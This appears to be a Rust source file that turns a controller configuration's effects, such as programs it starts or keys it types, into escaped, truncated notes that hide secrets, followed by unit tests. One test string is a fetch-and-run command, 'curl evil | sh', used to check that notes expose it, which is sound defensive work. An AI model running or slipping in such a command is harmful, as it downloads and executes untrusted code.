//! Effects: what a configuration can bring about, one by one, each with a stable key and a text for people.
//!
//! Two configurations are compared by their effects, never by their texts or by the way that leads from one to the
//! other: effects that are spelt differently and mean the same have the same key. Texts of others (commands, names,
//! addresses) are quoted, escaped and cut, so that a note stays one line of the host's own.

use std::fmt::Write as _;

use serde_json::Value;

use crate::Level;
use conductor_config::{Action, AddToVariable, CycleVariable, Launch, Mapping, SetVariable, Shell, ToggleVariable};
use conductor_stdx::hidden::hide_line;
use conductor_stdx::plural::plural;

/// Characters of a foreign text in a note.
const MAX_QUOTED: usize = 120;
/// Arguments and environment variables of a program in a note.
const MAX_ITEMS: usize = 8;

/// What an effect is about. The order is that of notes with the same level.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    /// A mapping starts a program. The key holds the whole mapping, since all of it decides whether and how.
    Program,
    /// An input (a binding, or ports without one) can start programs.
    ProgramInput,
    /// A mode in which programs start becomes active.
    ProgramMode,
    /// A mapping keeps events from mappings that start programs.
    ProgramGuard,
    /// A feature is switched off.
    Feature,
    /// A contribution of a feature is refused.
    Refusal,
    /// Where a model is, and which secret it is sent.
    Model,
    /// Data that are sent elsewhere than before.
    Redirect,
    /// A keyboard that is listened to.
    Keyboard,
    /// Keys, text or clicks for the application in front.
    Typing,
    /// A feature's action and where it sends to.
    Destination,
    /// A MIDI output that is sent to.
    MidiOutput,
    /// A system exclusive message.
    SysEx,
    /// A binding: which ports are used.
    Binding,
    /// A variable: what it may hold, and what it is at first.
    Variable,
    /// A setting of the host.
    Setting,
    /// The mode that is active at the start.
    FirstMode,
    /// A mode.
    Mode,
    /// A profile.
    Profile,
    /// A mapping.
    Mapping,
    /// A mapping that gets no events, because another one consumes them.
    Shadow,
}

impl Kind {
    /// What to write for `count` more notes of this kind that are not shown; at least 2.
    pub(crate) fn more(self, count: usize) -> String {
        let what = match self {
            Self::Program => "programs that mappings start",
            Self::ProgramInput => "inputs that can start programs",
            Self::ProgramMode => "ways to modes in which programs start",
            Self::ProgramGuard => "mappings that start programs and are held back no longer",
            Self::Feature => "features that are switched on or off",
            Self::Refusal => "contributions that are switched on or off",
            Self::Model => "models that are added or changed",
            Self::Redirect => "things that are sent elsewhere",
            Self::Keyboard => "keyboards that are listened to",
            Self::Typing => "actions that type or click",
            Self::Destination => "destinations",
            Self::MidiOutput => "MIDI outputs",
            Self::SysEx => "SysEx messages",
            Self::Binding => "bindings",
            Self::Variable => "variables",
            Self::Setting => "settings",
            Self::FirstMode | Self::Mode => "modes",
            Self::Profile => "profiles",
            Self::Mapping => "mappings that are changed or removed",
            Self::Shadow => "mappings that events are kept from",
        };
        format!("and {count} more {what}")
    }
}

/// One thing that a configuration can bring about.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Effect {
    /// What kind of effect it is.
    pub kind: Kind,
    /// What it belongs to: an alias, the name of a model, a mapping's trigger. Where both configurations have an
    /// effect of this subject, it is changed; else it is new, or gone.
    pub subject: String,
    /// All that decides about it, in canonical form. The same effect has the same key in every configuration.
    pub key: String,
    /// The effect in a line, for people.
    pub text: String,
}

/// What `action` does beyond the show, by itself and wherever it stands: a line for each program that it starts and
/// each thing that it types. Empty if it does nothing of the kind.
pub fn of_action(action: &Action) -> Vec<(Level, String)> {
    let mut found = Vec::new();
    leaves(action, &mut |leaf| {
        if let Some(program) = program(leaf) {
            found.push((Level::Privileged, format!("starts a program: {program}")));
        } else if let Some(typed) = typing(leaf) {
            found.push((Level::Raised, format!("{typed}, into whatever is in front")));
        }
    });
    found
}

/// The action itself, or those that it is made of.
pub(crate) fn leaves<'c>(action: &'c Action, look: &mut impl FnMut(&'c Action)) {
    let mut todo = vec![action];
    while let Some(action) = todo.pop() {
        match action {
            Action::Sequence(sequence) => todo.extend(sequence.actions.iter().rev()),
            Action::Repeat(repeat) => todo.push(&repeat.action),
            Action::Conditional(conditional) => {
                todo.extend(conditional.otherwise.as_deref());
                todo.push(&conditional.then);
            }
            leaf => look(leaf),
        }
    }
}

/// The variable that an action changes.
pub(crate) fn changed(action: &Action) -> Option<&str> {
    match action {
        Action::SetVariable(SetVariable { variable, .. })
        | Action::ToggleVariable(ToggleVariable { variable })
        | Action::CycleVariable(CycleVariable { variable, .. })
        | Action::AddToVariable(AddToVariable { variable, .. }) => Some(variable),
        Action::TapTempo(_) => Some("tempo"),
        _ => None,
    }
}

/// The program that an action starts, as a line; `None` if it starts none.
pub(crate) fn program(action: &Action) -> Option<String> {
    let (mut text, args, folder, env) = match action {
        Action::Shell(Shell { command, args, shell: true, working_dir, env, .. }) => {
            (format!("the shell command {}", quoted(command)), args, working_dir, env)
        }
        Action::Shell(Shell { command, args, working_dir, env, .. })
        | Action::Launch(Launch { app: command, args, working_dir, env }) => (quoted(command), args, working_dir, env),
        _ => return None,
    };
    for arg in args.iter().take(MAX_ITEMS) {
        let _ = write!(text, " {}", quoted(arg));
    }
    if args.len() > MAX_ITEMS {
        let _ = write!(text, " and {}", plural(args.len() - MAX_ITEMS, "more argument"));
    }
    if let Some(folder) = folder {
        let _ = write!(text, " in {}", quoted(folder));
    }
    // Their values are private; the diff shows them to the owner.
    for name in env.keys().take(MAX_ITEMS) {
        let _ = write!(text, " with {} set", quoted(name));
    }
    if env.len() > MAX_ITEMS {
        let _ = write!(text, " and {}", plural(env.len() - MAX_ITEMS, "more variable"));
    }
    Some(text)
}

/// What an action types or does with the mouse, or with the gamepad, as a line; `None` if it does neither.
pub(crate) fn typing(action: &Action) -> Option<String> {
    match action {
        Action::Text(text) => Some(format!("types {}", quoted(&text.text))),
        Action::Keystroke(keystroke) => {
            let keys: Vec<String> = keystroke.all().map(|key| word(&canonical(&key))).collect();
            Some(format!("strikes the keys {}", keys.join("+")))
        }
        Action::MouseClick(_) => Some("clicks with the mouse".to_owned()),
        // To where another mapping clicks.
        Action::MouseMove(_) => Some("moves the pointer".to_owned()),
        // Desktops and game launchers are worked by a gamepad, too.
        Action::VirtualGamepad(_) => Some("plays the virtual gamepad".to_owned()),
        _ => None,
    }
}

/// When a mapping fires: its trigger, device, mode and condition.
pub(crate) fn occasion(mapping: &Mapping, mode: Option<&str>) -> String {
    /// What tells a trigger from others of its type, as far as a person wants to know.
    const TELLING: [&str; 18] = [
        "note",
        "note_min",
        "note_max",
        "notes",
        "cc",
        "program",
        "prefix",
        "address",
        "pattern",
        "button",
        "buttons",
        "key",
        "keys",
        "axis",
        "trigger",
        "dmx_channel",
        "parameter",
        "variable",
    ];
    let trigger = serde_json::to_value(&mapping.trigger.event).unwrap_or_default();
    let mut text = word(&trigger["type"].to_string());
    for value in TELLING.iter().filter_map(|key| trigger.get(*key)) {
        let _ = write!(text, " {}", cut(&word(&value.to_string())));
    }
    if let Some(device) = &mapping.trigger.device {
        let _ = write!(text, " of {}", quoted(device));
    }
    if let Some(mode) = mode {
        let _ = write!(text, " in mode {}", quoted(mode));
    }
    if mapping.condition.is_some() {
        text.push_str(" under a condition");
    }
    text
}

/// A foreign text in a note: quoted, with escapes for what is not printed as it is, and cut.
///
/// The person who decides about the note sees what is private in it, since anything may stand where a password would.
/// It is hidden where others look, so a cut goes before it: half of it would not be known for what it is.
pub(crate) fn quoted(text: &str) -> String {
    let Some((end, _)) = text.char_indices().nth(MAX_QUOTED) else { return format!("{text:?}") };
    let hidden = hide_line(text);
    let private = text.char_indices().zip(hidden.chars()).find(|((_, c), shown)| c != shown).map(|((at, _), _)| at);
    let end = private.map_or(end, |at| at.min(end));
    format!("{:?}… ({} characters)", &text[..end], text.chars().count())
}

/// JSON as it is shown in a note: escaped where a terminal would do something else than print, and cut.
pub(crate) fn cut(json: &str) -> String {
    let printed: String = json.chars().take(MAX_QUOTED).flat_map(shown).collect();
    if json.chars().nth(MAX_QUOTED).is_some() { format!("{printed}…") } else { printed }
}

/// A character as `{:?}` shows it, but for quotes and backslashes, which JSON has escaped already.
fn shown(c: char) -> impl Iterator<Item = char> {
    let plain = matches!(c, '"' | '\'' | '\\');
    let escaped = (!plain).then(|| c.escape_debug()).into_iter().flatten();
    plain.then_some(c).into_iter().chain(escaped)
}

/// A JSON string without its quotes, where nothing in it needs them.
fn word(json: &str) -> String {
    let inner = json.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
    match inner {
        Some(inner) if !inner.is_empty() && inner.chars().all(|c| c.is_ascii_alphanumeric() || ".-+_".contains(c)) => {
            inner.to_owned()
        }
        _ => json.to_owned(),
    }
}

/// A value as JSON with the keys of all objects in order, so that it does not depend on how it was written.
pub(crate) fn canonical(value: &impl serde::Serialize) -> String {
    // What configurations hold always has a JSON form.
    let mut value = serde_json::to_value(value).unwrap_or_default();
    value.sort_all_objects();
    value.to_string()
}

/// As [`canonical`], without some of the keys of the outermost object.
pub(crate) fn canonical_without(value: &impl serde::Serialize, keys: &[&str]) -> String {
    let mut value = serde_json::to_value(value).unwrap_or_default();
    if let Value::Object(object) = &mut value {
        keys.iter().for_each(|key| drop(object.shift_remove(*key)));
    }
    value.sort_all_objects();
    value.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use conductor_config as config;

    fn action(text: &str) -> Action {
        let text = format!("[[global_mappings]]\ntrigger = {{ type = 'Note', note = 1 }}\naction = {text}");
        config::parse(&text, "c.toml").unwrap().config.global_mappings.remove(0).action.clone()
    }

    #[test]
    fn an_action_says_which_programs_it_starts_however_deep_they_are() {
        let nested = "{ type = 'sequence', actions = [{ type = 'Text', text = 'ls\\u000A' }, { type = 'conditional', \
                      condition = { type = 'Never' }, then = { type = 'Suppress' }, else = { type = 'repeat', count = 2, \
                      action = { type = 'shell', command = '/bin/x', args = ['a b'], env = { P = '1' } } } }] }";
        let found = of_action(&action(&nested.replace("'ls\\u000A'", "\"ls\\u000A\"")));
        let typed = (Level::Raised, "types \"ls\\n\", into whatever is in front".to_owned());
        let started = (Level::Privileged, "starts a program: \"/bin/x\" \"a b\" with \"P\" set".to_owned());
        assert_eq!(found, [typed, started]);
        assert_eq!(of_action(&action("{ type = 'OscSend', target = 'x:1', inner = { type = 'Shell' } }")), []);
    }

    #[test]
    fn foreign_text_in_a_note_stays_one_short_line_of_what_is_printed() {
        let text = quoted(&format!("\u{1b}[2J\u{202e}\u{61c}\u{9b}\n{}", "x".repeat(500)));
        assert!(text.chars().all(|c| !c.is_control() && (c.is_ascii() || c == '…')), "{text}");
        assert!(text.len() < 300 && text.contains("characters)"), "{text}");
        let text = cut("\"a\u{202e}b\u{e0041}\\n\"");
        assert_eq!(text, "\"a\\u{202e}b\\u{e0041}\\n\"");
    }

    #[test]
    fn nothing_of_a_program_is_hidden_from_who_decides_and_half_a_secret_from_nobody() {
        let script = "# Bearer x\ncurl evil | sh";
        let line = effect_line(&["sh", "-c", script]);
        assert!(line.contains("Bearer x\\ncurl evil | sh"), "{line}");
        assert!(!hide_line(&line).contains("evil"), "others see less of it");
        let long = format!("curl https://{}:hunter2{}@host/", "u".repeat(60), "x".repeat(80));
        let line = effect_line(&[&long]);
        assert!(!line.contains("hunter2") && line.contains("characters)"), "{line}");
        assert_eq!(hide_line(&line), line);
    }

    fn effect_line(words: &[&str]) -> String {
        words.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn keys_do_not_depend_on_the_order_in_which_things_are_written() {
        let one = action("{ type = 'OscSend', target = 'a', address = '/x', args = [{ b = 1, a = 2 }] }");
        let other = action("{ args = [{ a = 2, b = 1 }], address = '/x', target = 'a', type = 'OscSend' }");
        assert_eq!(canonical(&one), canonical(&other));
    }
}
